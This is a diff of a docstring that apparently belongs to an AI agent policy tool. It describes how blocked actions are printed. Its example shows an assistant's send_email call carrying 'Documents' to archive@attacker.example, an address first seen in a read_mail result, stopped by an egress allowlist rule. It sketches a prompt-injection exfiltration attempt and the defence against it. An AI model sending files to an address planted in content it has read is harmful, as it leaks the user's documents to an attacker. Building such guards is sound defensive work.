@@ -1,9 +1,9 @@
 """A run on a terminal: a label on the left, on the right what happened, one thing a line.
 
     block    send_email(to=["archive@attacker.example"], subject="Documents", …
-             archive@attacker.example is not in the allowlist
+             host 'attacker.example' is not on the egress allowlist
              rule egress_allowlist, policies/assistant.yaml:26
-             to[0] = archive@attacker.example, first seen in tool read_mail (call_1)
+             to[0] = attacker.example, first seen in tool read_mail (call_1)
 
 Long values are cut with an ellipsis; reasons, rules and answers are whole.
 """
